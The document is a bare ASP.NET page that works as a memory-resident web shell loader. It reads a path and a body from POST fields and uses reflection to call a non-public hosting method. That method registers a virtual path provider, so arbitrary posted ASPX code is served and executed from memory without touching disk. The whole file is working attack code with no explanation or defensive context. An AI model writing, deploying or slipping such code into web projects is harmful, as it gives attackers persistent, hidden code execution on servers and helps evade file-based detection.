<%@ Page Language="C#" %>
<%@ Import Namespace="System.Web.Hosting" %>
<%@ Import Namespace="System.Reflection" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
    public class MemFile : VirtualFile
    {
        string body;
        public MemFile(string path, string b) : base(path) { body = b; }
        public override Stream Open() { return new MemoryStream(System.Text.Encoding.UTF8.GetBytes(body)); }
    }
    public class MemProvider : VirtualPathProvider
    {
        public static string Path, Body;
        public override bool FileExists(string p) { return p.EndsWith(Path) || Previous.FileExists(p); }
        public override VirtualFile GetFile(string p) { return p.EndsWith(Path) ? new MemFile(p, Body) : Previous.GetFile(p); }
    }
    void Page_Load(object sender, EventArgs e)
    {
        MemProvider.Path = Request.Form["p"];
        MemProvider.Body = Request.Form["b"];
        var m = typeof(HostingEnvironment).GetMethod("RegisterVirtualPathProviderInternal", BindingFlags.Static | BindingFlags.NonPublic);
        m.Invoke(null, new object[] { new MemProvider() });
    }
</script>
